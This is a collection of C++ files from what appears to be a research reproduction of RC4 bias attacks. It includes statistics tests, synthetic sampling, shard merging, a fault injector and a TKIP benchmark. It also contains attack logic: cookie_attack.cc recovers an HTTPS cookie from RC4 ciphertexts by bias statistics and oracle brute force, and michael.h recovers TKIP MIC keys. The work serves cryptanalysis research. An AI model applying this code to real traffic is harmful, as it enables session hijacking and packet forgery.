  EXPECT_TRUE(FindBiasedCells(grid, 0).empty());
}

TEST(PipelineSyntheticTest, WeakerCounterClassesStillResolve) {
  // Counters with special-case cells (i = 1 doubles (0,0); i = 254/255 have
  // their own sets): the pipeline must find a consistent, sign-correct
  // subset at 2^38 samples.
  for (uint8_t i : {uint8_t{1}, uint8_t{254}, uint8_t{255}}) {
    const auto grid = GridFromFmModel(i, uint64_t{1} << 38, 100 + i);
    std::map<std::pair<int, int>, double> expected;
    for (const FmDigraph& d : FmDigraphsAt(i, 1 << 20)) {
      expected[{d.v1, d.v2}] += d.relative_bias;
    }
    const auto cells = FindBiasedCells(grid, 0);
    EXPECT_GE(cells.size(), expected.size() / 2) << "i=" << int{i};
    for (const auto& cell : cells) {
      const auto it = expected.find({cell.v1, cell.v2});
      ASSERT_NE(it, expected.end()) << "i=" << int{i} << " false positive at ("
                                    << int{cell.v1} << "," << int{cell.v2} << ")";
      EXPECT_GT(cell.relative_bias * it->second, 0.0) << "i=" << int{i};
    }
  }
}

}  // namespace
}  // namespace rc4b
