#include "src/stats/special.h"

#include <cmath>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

TEST(SpecialTest, GammaQBoundaries) {
  EXPECT_DOUBLE_EQ(RegularizedGammaQ(1.0, 0.0), 1.0);
  EXPECT_NEAR(RegularizedGammaQ(1.0, 1000.0), 0.0, 1e-12);
}

TEST(SpecialTest, GammaQExponentialCase) {
  // For a = 1, Q(1, x) = exp(-x).
  for (double x : {0.1, 0.5, 1.0, 2.5, 7.0, 30.0}) {
    EXPECT_NEAR(RegularizedGammaQ(1.0, x), std::exp(-x), 1e-10) << "x=" << x;
  }
}

TEST(SpecialTest, GammaQHalfIsNormalTail) {
  // Q(1/2, z^2/2) = 2 * P[N(0,1) > z] for z > 0.
  for (double z : {0.5, 1.0, 1.96, 3.0}) {
    EXPECT_NEAR(RegularizedGammaQ(0.5, z * z / 2.0), 2.0 * NormalSurvival(z), 1e-9)
        << "z=" << z;
  }
}

TEST(SpecialTest, ChiSquaredKnownQuantiles) {
  // Classical table values: P[X²_1 >= 3.841] ~ 0.05, P[X²_10 >= 18.307] ~ 0.05.
  EXPECT_NEAR(ChiSquaredSurvival(3.841, 1), 0.05, 0.001);
  EXPECT_NEAR(ChiSquaredSurvival(18.307, 10), 0.05, 0.001);
  EXPECT_NEAR(ChiSquaredSurvival(6.635, 1), 0.01, 0.0005);
}

TEST(SpecialTest, ChiSquaredMonotoneDecreasing) {
  double prev = 1.0;
  for (double x = 0.0; x < 50.0; x += 5.0) {
    const double p = ChiSquaredSurvival(x, 8);
    EXPECT_LE(p, prev + 1e-12);
    prev = p;
  }
}

TEST(SpecialTest, NormalCdfSymmetry) {
  for (double z : {0.0, 0.5, 1.0, 2.0, 4.0}) {
    EXPECT_NEAR(NormalCdf(z) + NormalCdf(-z), 1.0, 1e-12);
    EXPECT_NEAR(NormalCdf(z), 1.0 - NormalSurvival(z), 1e-12);
  }
}

TEST(SpecialTest, NormalCdfKnownValues) {
  EXPECT_NEAR(NormalCdf(0.0), 0.5, 1e-12);
  EXPECT_NEAR(NormalCdf(1.96), 0.975, 0.0002);
  EXPECT_NEAR(NormalCdf(-2.5758), 0.005, 0.0002);
}

TEST(SpecialTest, TwoSidedPValue) {
  EXPECT_NEAR(TwoSidedNormalPValue(1.96), 0.05, 0.001);
  EXPECT_NEAR(TwoSidedNormalPValue(-1.96), 0.05, 0.001);
  EXPECT_DOUBLE_EQ(TwoSidedNormalPValue(0.0), 1.0);
}

TEST(SpecialTest, LogBinomial) {
  EXPECT_NEAR(LogBinomialCoefficient(5, 2), std::log(10.0), 1e-10);
  EXPECT_NEAR(LogBinomialCoefficient(10, 0), 0.0, 1e-10);
  EXPECT_NEAR(LogBinomialCoefficient(52, 5), std::log(2598960.0), 1e-8);
}

}  // namespace
}  // namespace rc4b
