#include "src/tls/cookie_attack.h"

#include <cassert>
#include <cstdio>

#include "src/biases/fluhrer_mcgrew.h"
#include "src/biases/mantin.h"
#include "src/core/likelihood.h"
#include "src/recovery/engine.h"

namespace rc4b {

namespace {

// True iff both bytes of the pair starting at `pos` lie in known plaintext
// (outside the cookie value).
bool PairKnown(size_t pos, const CookieAttackLayout& layout) {
  const auto known = [&](size_t p) {
    return p < layout.request_size &&
           (p < layout.cookie_offset || p >= layout.cookie_offset + layout.cookie_length);
  };
  return known(pos) && known(pos + 1);
}

}  // namespace

CookieCaptureStats::CookieCaptureStats(const CookieAttackLayout& layout,
                                       Bytes known_plaintext)
    : layout_(layout), known_plaintext_(std::move(known_plaintext)) {
  // Release-build validation: AddRequest indexes up to cookie_offset +
  // cookie_length, so a layout violating these bounds must disable the
  // object rather than read out of bounds later.
  valid_ = known_plaintext_.size() == layout_.request_size &&
           layout_.cookie_offset >= 1 &&
           layout_.cookie_offset + layout_.cookie_length < layout_.request_size;
  assert(valid_);
  if (!valid_) {
    std::fprintf(stderr,
                 "CookieCaptureStats: invalid layout (offset %zu, length %zu, "
                 "request %zu, plaintext %zu); all requests will be rejected\n",
                 layout_.cookie_offset, layout_.cookie_length,
                 layout_.request_size, known_plaintext_.size());
    return;
  }

  const size_t pairs = pair_count();
  fm_counts_.assign(pairs, std::vector<uint64_t>(65536, 0));
  absab_scores_.assign(pairs, std::vector<double>(65536, 0.0));
  gap_refs_.resize(pairs);

  // Precompute every usable ABSAB reference for each unknown-adjacent pair:
  // known pairs at distance g + 2 before or after it, g <= max_gap.
  for (size_t t = 0; t < pairs; ++t) {
    const size_t pos = layout_.cookie_offset - 1 + t;  // first byte of pair t
    for (size_t gap = 0; gap <= layout_.max_gap; ++gap) {
      // Known pair after: positions pos + gap + 2, pos + gap + 3.
      const size_t after = pos + gap + 2;
      if (PairKnown(after, layout_)) {
        const uint16_t known_pair = static_cast<uint16_t>(
            known_plaintext_[after] << 8 | known_plaintext_[after + 1]);
        gap_refs_[t].push_back(GapRef{after, known_pair, AbsabLogOdds(gap)});
      }
      // Known pair before: positions pos - gap - 2, pos - gap - 1.
      if (pos >= gap + 2) {
        const size_t before = pos - gap - 2;
        if (PairKnown(before, layout_)) {
          const uint16_t known_pair = static_cast<uint16_t>(
              known_plaintext_[before] << 8 | known_plaintext_[before + 1]);
          gap_refs_[t].push_back(GapRef{before, known_pair, AbsabLogOdds(gap)});
        }
      }
    }
  }
}

bool CookieCaptureStats::AddRequest(std::span<const uint8_t> ciphertext) {
  // Load-bearing validation: with a valid layout, every position indexed
  // below is < request_size, so a short ciphertext (or an invalid layout)
  // would read out of bounds in Release builds.
  if (!valid_ || ciphertext.size() < layout_.request_size) {
    return false;
  }
  ++requests_;
  for (size_t t = 0; t < pair_count(); ++t) {
    const size_t pos = layout_.cookie_offset - 1 + t;
    const uint16_t cpair =
        static_cast<uint16_t>(ciphertext[pos] << 8 | ciphertext[pos + 1]);
    fm_counts_[t][cpair] += 1;
    // ABSAB: ciphertext differential against each known reference pair; the
    // plaintext-likelihood cell for candidate pair mu is d XOR known_pair
    // (formulas 19–24 folded into one table update).
    for (const GapRef& ref : gap_refs_[t]) {
      const uint16_t ref_pair = static_cast<uint16_t>(
          ciphertext[ref.known_position] << 8 | ciphertext[ref.known_position + 1]);
      const uint16_t diff = static_cast<uint16_t>(cpair ^ ref_pair);
      absab_scores_[t][diff ^ ref.known_pair] += ref.log_odds;
    }
  }
  return true;
}

DoubleByteTables CookieTransitionTables(const CookieCaptureStats& stats,
                                        size_t keystream_alignment) {
  DoubleByteTables tables(stats.pair_count());
  for (size_t t = 0; t < stats.pair_count(); ++t) {
    // Keystream position of the pair's first byte: one before the cookie for
    // t = 0. 1-based position for the PRGA counter mapping.
    const size_t stream_pos_1based = keystream_alignment + t;  // (offset-1)+t+1
    const auto model =
        FmSparseModel(PrgaCounterAtPosition(stream_pos_1based), 1 << 20);
    tables[t] = DoubleByteLogLikelihoodSparse(stats.FmCounts(t), stats.requests(),
                                              model);
    CombineInPlace(tables[t], stats.AbsabScores(t));
  }
  return tables;
}

CookieBruteForceResult BruteForceCookie(
    const DoubleByteTables& transitions, uint8_t m1, uint8_t m_last,
    std::span<const uint8_t> alphabet, size_t max_candidates,
    const std::function<bool(const Bytes&)>& try_cookie) {
  // The unified recovery loop (src/recovery/engine.h) with the server oracle
  // as its verification predicate.
  recovery::RecoveryOptions options;
  options.max_candidates = max_candidates;
  const recovery::RecoveryEngine engine(std::move(options));
  const auto recovered = engine.RecoverDouble(
      transitions, recovery::PairBoundary{m1, m_last}, alphabet, try_cookie);
  CookieBruteForceResult result;
  result.success = recovered.found;
  result.attempts = recovered.candidates_tried;
  if (recovered.found) {
    result.cookie = recovered.plaintext;
  }
  return result;
}

std::vector<uint8_t> CookieAlphabetHex() {
  std::vector<uint8_t> alphabet;
  for (char c = '0'; c <= '9'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  for (char c = 'a'; c <= 'f'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  return alphabet;
}

std::vector<uint8_t> CookieAlphabet64() {
  std::vector<uint8_t> alphabet;
  for (char c = 'A'; c <= 'Z'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  for (char c = 'a'; c <= 'z'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  for (char c = '0'; c <= '9'; ++c) {
    alphabet.push_back(static_cast<uint8_t>(c));
  }
  alphabet.push_back('-');
  alphabet.push_back('_');
  return alphabet;
}

}  // namespace rc4b
