#include "src/store/merge.h"

namespace rc4b::store {

IoStatus MergeShardGrids(const Manifest& manifest,
                         const std::string& manifest_path, StoredGrid* out) {
  return MergeShardGridsEx(manifest, manifest_path, MergeOptions{}, out, nullptr);
}

IoStatus MergeShardGridsEx(const Manifest& manifest,
                           const std::string& manifest_path,
                           const MergeOptions& options, StoredGrid* out,
                           MergeOutcome* outcome) {
  if (IoStatus status = ValidateManifest(manifest, manifest_path);
      !status.ok()) {
    return status;
  }
  uint64_t base_end = manifest.grid.key_begin;  // nothing covered yet
  if (options.base != nullptr) {
    const StoredGrid& base = *options.base;
    if (IoStatus status =
            CheckSameDataset(manifest.grid, base.meta, "incremental base");
        !status.ok()) {
      return status;
    }
    if (base.meta.key_begin != manifest.grid.key_begin) {
      return IoStatus::Fail("incremental base starts at key " +
                            std::to_string(base.meta.key_begin) +
                            ", manifest at " +
                            std::to_string(manifest.grid.key_begin));
    }
    if (base.meta.key_end > manifest.grid.key_end) {
      return IoStatus::Fail("incremental base ends at key " +
                            std::to_string(base.meta.key_end) +
                            ", beyond the manifest's " +
                            std::to_string(manifest.grid.key_end));
    }
    base_end = base.meta.key_end;
  }

  MergeOutcome local;
  MergeOutcome& result = outcome != nullptr ? *outcome : local;
  result = MergeOutcome{};

  out->meta = manifest.grid;
  out->meta.samples = 0;
  out->cells.assign(manifest.grid.cell_count(), 0);
  bool first = true;
  uint64_t unanimous_interleave = 0;
  if (options.base != nullptr) {
    const StoredGrid& base = *options.base;
    if (base.cells.size() != out->cells.size()) {
      return IoStatus::Fail("incremental base has " +
                            std::to_string(base.cells.size()) + " cells, grid " +
                            std::to_string(out->cells.size()));
    }
    for (size_t i = 0; i < base.cells.size(); ++i) {
      out->cells[i] = base.cells[i];
    }
    out->meta.samples = base.meta.samples;
    unanimous_interleave = base.meta.interleave;
    first = false;
  }
  for (uint32_t index = 0; index < manifest.shards.size(); ++index) {
    const ShardEntry& shard = manifest.shards[index];
    if (shard.key_end <= base_end) {
      result.skipped.push_back(index);  // covered by the base grid
      continue;
    }
    if (shard.key_begin < base_end) {
      return IoStatus::Fail(
          "incremental base ends at key " + std::to_string(base_end) +
          " inside shard " + shard.path + " [" +
          std::to_string(shard.key_begin) + ", " +
          std::to_string(shard.key_end) +
          ") — the base must end on a shard boundary");
    }
    const std::string path = ResolveManifestPath(manifest_path, shard.path);
    GridFileView view;
    IoStatus status = view.Open(path);
    if (status.ok()) {
      const GridMeta& got = view.meta();
      status = CheckSameDataset(manifest.grid, got, path);
      if (status.ok() &&
          (got.key_begin != shard.key_begin || got.key_end != shard.key_end)) {
        status = IoStatus::Fail(
            path + ": covers keys [" + std::to_string(got.key_begin) + ", " +
            std::to_string(got.key_end) + ") but the manifest assigns [" +
            std::to_string(shard.key_begin) + ", " +
            std::to_string(shard.key_end) + ")");
      }
    }
    if (!status.ok()) {
      if (!options.allow_missing) {
        return status;
      }
      result.missing.push_back({index, path, status.message()});
      continue;
    }
    const GridMeta& got = view.meta();
    const auto cells = view.cells();
    for (size_t i = 0; i < cells.size(); ++i) {
      out->cells[i] += cells[i];
    }
    out->meta.samples += got.samples;
    result.merged.push_back(index);
    if (first) {
      unanimous_interleave = got.interleave;
      first = false;
    } else if (unanimous_interleave != got.interleave) {
      unanimous_interleave = 0;
    }
  }
  out->meta.interleave = unanimous_interleave;
  return IoStatus::Ok();
}

IoStatus CheckGridsEqual(const StoredGrid& a, const StoredGrid& b,
                         const std::string& a_name, const std::string& b_name) {
  const std::string context = a_name + " vs " + b_name;
  if (IoStatus status = CheckSameDataset(a.meta, b.meta, context);
      !status.ok()) {
    return status;
  }
  if (a.meta.key_begin != b.meta.key_begin ||
      a.meta.key_end != b.meta.key_end) {
    return IoStatus::Fail(context + ": key ranges differ ([" +
                          std::to_string(a.meta.key_begin) + ", " +
                          std::to_string(a.meta.key_end) + ") vs [" +
                          std::to_string(b.meta.key_begin) + ", " +
                          std::to_string(b.meta.key_end) + "))");
  }
  if (a.meta.samples != b.meta.samples) {
    return IoStatus::Fail(context + ": sample counts differ (" +
                          std::to_string(a.meta.samples) + " vs " +
                          std::to_string(b.meta.samples) + ")");
  }
  if (a.cells.size() != b.cells.size()) {
    return IoStatus::Fail(context + ": cell counts differ");
  }
  for (size_t i = 0; i < a.cells.size(); ++i) {
    if (a.cells[i] != b.cells[i]) {
      return IoStatus::Fail(context + ": counters differ first at cell " +
                            std::to_string(i) + " (" +
                            std::to_string(a.cells[i]) + " vs " +
                            std::to_string(b.cells[i]) + ")");
    }
  }
  return IoStatus::Ok();
}

}  // namespace rc4b::store
