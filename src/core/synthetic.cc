#include "src/core/synthetic.h"

#include <cassert>
#include <cmath>

#include "src/biases/mantin.h"

namespace rc4b {

uint64_t SamplePoisson(double mean, Xoshiro256& rng) {
  if (mean <= 0.0) {
    return 0;
  }
  if (mean >= kPoissonNormalCutoff) {
    const double draw = mean + std::sqrt(mean) * rng.Normal();
    return draw <= 0.5 ? 0 : static_cast<uint64_t>(draw + 0.5);
  }
  // Knuth inversion: count exponential inter-arrivals.
  const double limit = std::exp(-mean);
  uint64_t k = 0;
  double product = rng.UnitDouble();
  while (product > limit) {
    ++k;
    product *= rng.UnitDouble();
  }
  return k;
}

std::vector<uint64_t> SampleCounts(std::span<const double> probabilities,
                                   uint64_t trials, Xoshiro256& rng) {
  std::vector<uint64_t> counts(probabilities.size());
  const double n = static_cast<double>(trials);
  for (size_t i = 0; i < probabilities.size(); ++i) {
    counts[i] = SamplePoisson(n * probabilities[i], rng);
  }
  return counts;
}

std::vector<uint64_t> SampleCiphertextPairCounts(
    std::span<const double> keystream_probs, uint8_t p1, uint8_t p2,
    uint64_t trials, Xoshiro256& rng) {
  assert(keystream_probs.size() == 65536);
  const auto keystream_counts = SampleCounts(keystream_probs, trials, rng);
  std::vector<uint64_t> ciphertext_counts(65536);
  for (size_t k1 = 0; k1 < 256; ++k1) {
    const size_t c1 = k1 ^ p1;
    for (size_t k2 = 0; k2 < 256; ++k2) {
      ciphertext_counts[c1 * 256 + (k2 ^ p2)] = keystream_counts[k1 * 256 + k2];
    }
  }
  return ciphertext_counts;
}

std::vector<double> EmpiricalPairProbabilities(const DigraphGrid& grid, size_t row) {
  const auto counts = grid.Row(row);
  std::vector<double> probs(counts.size());
  uint64_t total = 0;
  for (uint64_t c : counts) {
    total += c;
  }
  // An empty row means the grid was never populated — a caller bug; the
  // documented contract is a distribution summing to one.
  assert(total > 0);
  const double n = total == 0 ? 1.0 : static_cast<double>(total);
  for (size_t i = 0; i < counts.size(); ++i) {
    probs[i] = static_cast<double>(counts[i]) / n;
  }
  return probs;
}

std::vector<uint64_t> SampleCiphertextPairCountsFromGrid(
    const DigraphGrid& grid, size_t row, uint8_t p1, uint8_t p2,
    uint64_t trials, Xoshiro256& rng) {
  const auto probs = EmpiricalPairProbabilities(grid, row);
  return SampleCiphertextPairCounts(probs, p1, p2, trials, rng);
}

std::vector<double> SampleAbsabScoreTable(std::span<const double> alphas,
                                          uint64_t trials, uint16_t true_diff,
                                          Xoshiro256& rng) {
  const double n = static_cast<double>(trials);

  // Per-gap log-odds weights and the moments of the aggregated score
  //   T[d] = sum_g w_g N_g[d],  N_g[d] ~ Poisson(n * p_g[d]),
  // where p_g[d] = alpha_g for the true differential and (1 - alpha_g)/65535
  // otherwise. Var[w N] = w^2 Var[N] = w^2 * mean for Poisson.
  double null_mean = 0.0, null_var = 0.0;
  double true_mean = 0.0, true_var = 0.0;
  double min_cell_mean = 1e300;
  std::vector<double> weights(alphas.size());
  for (size_t g = 0; g < alphas.size(); ++g) {
    const double alpha = alphas[g];
    const double other = (1.0 - alpha) / 65535.0;
    const double w = std::log(alpha) - std::log(other);
    weights[g] = w;
    null_mean += w * n * other;
    null_var += w * w * n * other;
    true_mean += w * n * alpha;
    true_var += w * w * n * alpha;
    min_cell_mean = std::min(min_cell_mean, n * other);
  }

  std::vector<double> table(65536);
  if (min_cell_mean >= kPoissonNormalCutoff) {
    // All per-gap counts are effectively normal; sample the aggregate
    // directly — one draw per differential instead of one per (gap, cell).
    const double null_sd = std::sqrt(null_var);
    for (double& t : table) {
      t = null_mean + null_sd * rng.Normal();
    }
    table[true_diff] = true_mean + std::sqrt(true_var) * rng.Normal();
  } else {
    // Small-count regime: honest per-gap Poisson draws.
    for (size_t d = 0; d < 65536; ++d) {
      double score = 0.0;
      for (size_t g = 0; g < alphas.size(); ++g) {
        const double alpha = alphas[g];
        const double p = (d == true_diff) ? alpha : (1.0 - alpha) / 65535.0;
        score += weights[g] * static_cast<double>(SamplePoisson(n * p, rng));
      }
      table[d] = score;
    }
  }
  return table;
}

}  // namespace rc4b
