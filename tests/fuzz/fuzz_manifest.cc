// Fuzz target: the shard-manifest text parser (src/store/manifest.cc).
// Manifests are operator-edited files, so arbitrary text must produce either
// a field-level diagnostic or a manifest that then survives full validation
// — an accepted-but-invalid manifest would send shard runners into
// inconsistent key ranges.
#include <cstdint>
#include <cstdlib>

#include "src/store/manifest.h"
#include "tests/fuzz/fuzz_util.h"

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  const std::string path = rc4b::fuzz::ScratchPath("input.manifest");
  if (!rc4b::fuzz::WriteInput(path, data, size)) {
    return 0;
  }

  rc4b::store::Manifest manifest;
  if (rc4b::store::ReadManifest(path, &manifest).ok()) {
    // Whatever parses must be internally coherent end to end.
    if (!rc4b::store::ValidateManifest(manifest, path).ok()) {
      std::abort();  // parser accepted a manifest validation rejects
    }
    for (const rc4b::store::ShardEntry& shard : manifest.shards) {
      (void)rc4b::store::ResolveManifestPath(path, shard.path);
      (void)rc4b::store::CheckpointPath(shard.path);
    }
  }
  return 0;
}
