// Deterministic, env-driven fault injection for the campaign chaos suite.
// Long campaigns die of partial failure — killed workers, torn final writes,
// silent media corruption, stalled disks — so every one of those failure
// modes is producible on demand and exercised in CI (docs/orchestrate.md).
//
// Faults are declared in RC4B_FAULTS as ';'-separated specs:
//
//   name[=value][@path-substring][*budget]
//
//   kill-at-checkpoint=N        raise SIGKILL right after this process
//                               durably commits its Nth checkpoint
//   torn-final-write[@s]        at commit time, clobber the destination with
//                               a truncated image instead of the atomic
//                               rename, then SIGKILL — the crash a
//                               non-atomic filesystem would expose
//   crc-flip[@s]                after a successful commit, flip one byte in
//                               the middle of the destination file (silent
//                               corruption the CRC sections must catch)
//   delay-io-ms=M[@s]           sleep M milliseconds before a write — stalls
//                               a worker past its lease heartbeat deadline
//
// `@s` restricts a fault to destination paths containing the substring `s`;
// a trailing '$' anchors it to the end of the path ("@shard2.grid$" hits the
// final grid but not its ".ckpt").
// `*budget` caps firings (default 1; `*0` = unlimited). Budgets are
// process-local unless RC4B_FAULT_STATE_DIR names a directory, in which case
// firings claim ticket files there and the budget spans every process of the
// campaign — "kill one worker once", not "kill every retry forever".
//
// The injector also keeps cheap named event counters (NoteEvent/EventCount)
// so tests can observe invisible syscalls such as the durability fsyncs.
#ifndef SRC_COMMON_FAULT_INJECTOR_H_
#define SRC_COMMON_FAULT_INJECTOR_H_

#include <cstdint>
#include <mutex>
#include <string>
#include <vector>

namespace rc4b {

class FaultInjector {
 public:
  // Process-wide instance; first use parses the environment.
  static FaultInjector& Instance();

  FaultInjector(const FaultInjector&) = delete;
  FaultInjector& operator=(const FaultInjector&) = delete;

  // Re-parses RC4B_FAULTS / RC4B_FAULT_STATE_DIR. Tests call this after
  // changing the environment; campaign workers call it right after fork so
  // the inherited environment, not the parent's parse, is authoritative.
  void ReloadFromEnv();

  bool enabled() const;

  // --- hook points ---------------------------------------------------------
  // ShardRunner, after a checkpoint commits durably ("kill-at-checkpoint").
  void OnCheckpointCommitted();
  // BinaryWriter::Write, before bytes land in the temp file ("delay-io-ms").
  void BeforeWrite(const std::string& dest_path);
  // BinaryWriter commit, instead of the atomic rename ("torn-final-write").
  // Does not return if the fault fires.
  void MaybeTearCommit(const std::string& tmp_path, const std::string& dest_path);
  // BinaryWriter commit, after a successful rename ("crc-flip").
  void AfterCommit(const std::string& dest_path);

  // --- observation counters (tests) ----------------------------------------
  static void NoteEvent(const char* event);
  static uint64_t EventCount(const std::string& event);
  static void ResetEventsForTest();

 private:
  struct Spec {
    std::string name;
    std::string value;       // numeric parameter, fault-specific
    std::string path_match;  // empty = any destination path
    uint64_t budget = 1;     // 0 = unlimited
    uint64_t fired = 0;      // process-local firings
  };

  FaultInjector();

  // Finds an armed spec matching (name, path) — and, when nth != 0, whose
  // numeric value equals nth — and consumes one firing from its budget
  // (including the cross-process ticket). Copies the spec to *out; returns
  // false if nothing matches or the budget is spent.
  bool Claim(const char* name, const std::string& path, uint64_t nth, Spec* out);

  mutable std::mutex mutex_;
  std::vector<Spec> specs_;
  std::string state_dir_;
  uint64_t checkpoints_seen_ = 0;
};

}  // namespace rc4b

#endif  // SRC_COMMON_FAULT_INJECTOR_H_
