// Michael — the TKIP Message Integrity Check (IEEE 802.11, clause 11.4.2.3).
//
// Michael maps a 64-bit key and a message to a 64-bit MIC using an unkeyed
// invertible block function. Because the block function is invertible, the
// key can be recovered from any (message, MIC) pair by running the rounds
// backwards — the Tews/Beck attack the paper relies on in Sect. 5 ("given
// plaintext data and its MIC value, we can efficiently derive the MIC key").
#ifndef SRC_CRYPTO_MICHAEL_H_
#define SRC_CRYPTO_MICHAEL_H_

#include <array>
#include <cstdint>
#include <span>

namespace rc4b {

struct MichaelKey {
  uint32_t l = 0;
  uint32_t r = 0;

  friend bool operator==(const MichaelKey&, const MichaelKey&) = default;
};

// Converts between the wire format (8 bytes, little-endian words) and the
// (L, R) word pair.
MichaelKey MichaelKeyFromBytes(std::span<const uint8_t> key8);
std::array<uint8_t, 8> MichaelKeyToBytes(const MichaelKey& key);

// Computes MIC(key, message). The message is the MSDU view used by TKIP:
// DA || SA || priority || 3 zero bytes || payload. Callers that want the raw
// Michael function (e.g. the chained test vectors) pass the message directly.
std::array<uint8_t, 8> MichaelMic(const MichaelKey& key,
                                  std::span<const uint8_t> message);

// Recovers the key from a message and its MIC by inverting the block function
// and unwinding the message words (Tews/Beck). Exact inverse: for all keys
// and messages, MichaelRecoverKey(m, MichaelMic(k, m)) == k.
MichaelKey MichaelRecoverKey(std::span<const uint8_t> message,
                             std::span<const uint8_t> mic8);

// Builds the TKIP MSDU header block that Michael authenticates in front of
// the payload: destination, source, priority, 3 reserved zero bytes.
std::array<uint8_t, 16> MichaelHeader(std::span<const uint8_t> da6,
                                      std::span<const uint8_t> sa6, uint8_t priority);

}  // namespace rc4b

#endif  // SRC_CRYPTO_MICHAEL_H_
