// Fig. 9 — median position in the candidate list of the first candidate with
// a correct ICV, vs the number of captured packet copies. Shares the Fig. 8
// harness: the position is min(rank of the true trailer, first CRC false
// positive), evaluated with the exact rank DP.
#include <algorithm>
#include <cstdio>
#include <mutex>

#include "bench/harness.h"
#include "bench/tkip_sim.h"
#include "src/common/flags.h"
#include "src/common/thread_pool.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  FlagSet flags("Fig. 9: median candidate position of the first correct ICV");
  flags.Define("sims", "16", "simulated attacks (paper: 256)")
      .Define("max-copies", "15", "largest checkpoint in units of 2^20 packets")
      .Define("step", "2", "checkpoint step in units of 2^20")
      .Define("keys-per-tsc", "0x40000", "model keys per TSC1 class (2^18)")
      .Define("target-bias-rms", "0.0015",
              "calibrate the model's RMS relative bias (0 = leave the raw "
              "model, whose sampling noise inflates the signal)")
      .Define("oracle", "true",
              "perfect-model victim (see tkip_sim.h); false = real TKIP "
              "mixing + RC4 with an honestly-trained model")
      .Define("workers", "0", "worker threads")
      .Define("seed", "13", "simulation seed")
      .Define("model-seed", "14", "attacker model seed");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const int sims = static_cast<int>(flags.GetInt("sims"));

  bench::PrintHeader(
      "bench_fig9_icv_position",
      "Fig. 9 (median position of a correct-ICV candidate vs copies x 2^20)",
      "expected shape: monotone decrease over ~2^26 -> ~2^10 as copies grow "
      "(absolute values shifted right of the paper's due to the scaled-down "
      "attacker model)");

  const Bytes msdu = bench::InjectedPacket();
  TkipTscModel model(msdu.size() + 1, msdu.size() + kTkipTrailerSize);
  std::printf("generating attacker model...\n");
  model.Generate(flags.GetUint("keys-per-tsc"), flags.GetUint("model-seed"),
                 static_cast<unsigned>(flags.GetUint("workers")));
  const double target_rms = flags.GetDouble("target-bias-rms");
  if (target_rms > 0.0) {
    const double raw_rms = model.RmsRelativeDeviation();
    if (raw_rms > target_rms) {
      model.ShrinkTowardUniform(target_rms / raw_rms);
    }
    std::printf("model RMS relative bias: raw %.4f -> calibrated %.4f\n",
                raw_rms, model.RmsRelativeDeviation());
  }

  bench::TkipSimOptions options;
  for (uint64_t copies = 1; copies <= flags.GetUint("max-copies");
       copies += flags.GetUint("step")) {
    options.checkpoints.push_back(copies << 20);
  }
  options.seed = flags.GetUint("seed");
  options.oracle_model = flags.GetBool("oracle");

  std::vector<std::vector<double>> positions(options.checkpoints.size());
  std::mutex mutex;
  ParallelChunks(sims, static_cast<unsigned>(flags.GetUint("workers")),
                 [&](unsigned, uint64_t begin, uint64_t end) {
    for (uint64_t s = begin; s < end; ++s) {
      const auto points = bench::RunTkipSimulation(model, options, s);
      std::lock_guard<std::mutex> lock(mutex);
      for (size_t c = 0; c < points.size(); ++c) {
        positions[c].push_back(points[c].first_icv_position);
      }
    }
  });

  std::printf("\n%-16s %18s %12s\n", "copies (x2^20)", "median position",
              "log2");
  for (size_t c = 0; c < options.checkpoints.size(); ++c) {
    auto& list = positions[c];
    std::sort(list.begin(), list.end());
    const double median = list[list.size() / 2];
    std::printf("%-16llu %18.0f %12.2f\n",
                static_cast<unsigned long long>(options.checkpoints[c] >> 20),
                median, median > 0 ? std::log2(median) : 0.0);
  }
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
