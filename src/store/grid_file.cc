#include "src/store/grid_file.h"

#include <cstring>

#include "src/crypto/crc32.h"

namespace rc4b::store {

namespace {

constexpr size_t kHeaderBytes = 56;
constexpr size_t kCellsAlignment = 4096;

// Fixed u64 meta fields before the variable-length pair list.
constexpr size_t kMetaFixedFields = 10;

uint32_t SectionCrc(std::span<const uint8_t> bytes) { return Crc32(bytes); }

std::span<const uint8_t> AsBytes(std::span<const uint64_t> cells) {
  return std::span<const uint8_t>(reinterpret_cast<const uint8_t*>(cells.data()),
                                  cells.size_bytes());
}

void PutU64(std::vector<uint8_t>& out, uint64_t v) {
  const size_t at = out.size();
  out.resize(at + sizeof(v));
  std::memcpy(out.data() + at, &v, sizeof(v));
}

uint64_t GetU64(std::span<const uint8_t> bytes, size_t index) {
  uint64_t v = 0;
  std::memcpy(&v, bytes.data() + index * sizeof(v), sizeof(v));
  return v;
}

std::vector<uint8_t> SerializeMeta(const GridMeta& meta) {
  std::vector<uint8_t> out;
  out.reserve((kMetaFixedFields + 2 * meta.pairs.size()) * sizeof(uint64_t));
  PutU64(out, static_cast<uint64_t>(meta.kind));
  PutU64(out, meta.seed);
  PutU64(out, meta.key_begin);
  PutU64(out, meta.key_end);
  PutU64(out, meta.rows);
  PutU64(out, meta.drop);
  PutU64(out, meta.interleave);
  PutU64(out, meta.bytes_per_key);
  PutU64(out, meta.samples);
  PutU64(out, meta.pairs.size());
  for (const auto& [a, b] : meta.pairs) {
    PutU64(out, a);
    PutU64(out, b);
  }
  return out;
}

IoStatus ParseMeta(std::span<const uint8_t> bytes, const std::string& path,
                   GridMeta* out) {
  if (bytes.size() < kMetaFixedFields * sizeof(uint64_t) ||
      bytes.size() % sizeof(uint64_t) != 0) {
    return IoStatus::Fail(path + ": meta section has invalid size " +
                          std::to_string(bytes.size()));
  }
  const uint64_t kind = GetU64(bytes, 0);
  if (kind < 1 || kind > 4) {
    return IoStatus::Fail(path + ": unknown grid kind " + std::to_string(kind));
  }
  out->kind = static_cast<GridKind>(kind);
  out->seed = GetU64(bytes, 1);
  out->key_begin = GetU64(bytes, 2);
  out->key_end = GetU64(bytes, 3);
  out->rows = GetU64(bytes, 4);
  out->drop = GetU64(bytes, 5);
  out->interleave = GetU64(bytes, 6);
  out->bytes_per_key = GetU64(bytes, 7);
  out->samples = GetU64(bytes, 8);
  const uint64_t pair_count = GetU64(bytes, 9);
